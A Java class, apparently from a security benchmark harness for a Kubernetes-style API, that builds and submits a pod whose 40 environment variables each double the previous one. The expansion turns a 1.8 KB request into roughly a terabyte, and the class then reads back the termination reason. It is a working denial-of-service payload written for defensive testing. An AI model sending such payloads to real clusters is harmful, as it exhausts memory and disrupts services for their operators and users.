package dev.stint.bench.attack;

import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** A pod of 1.8 KB whose environment would be a terabyte. */
final class DoublingVariables implements Attack {
  @Override
  public String name() {
    return "variables";
  }

  @Override
  public String description() {
    return "40 variables that double each other";
  }

  @Override
  public String run(Scene scene) throws Exception {
    String variables =
        IntStream.range(0, 40)
            .mapToObj(i ->
                "{\"name\":\"A%d\",\"value\":\"%s\"}"
                    .formatted(i, i == 0 ? "x" : "$(A%d)$(A%d)".formatted(i - 1, i - 1)))
            .collect(Collectors.joining(","));
    String pod =
        """
        {"metadata": {"name": "doubling"}, "spec": {"restartPolicy": "Never", "containers": [
         {"name": "main", "image": "none", "command": ["true"], "env": [%s]}]}}
        """
            .formatted(variables);
    int code = scene.attacker().send("POST", Scene.CORE + "pods", pod).code();
    Thread.sleep(5_000);
    String reason =
        scene
            .attacker()
            .get(Scene.CORE + "pods/doubling")
            .tree()
            .at("/status/containerStatuses/0/state/terminated/reason")
            .asString("no reason");
    return code + ", then " + reason;
  }
}
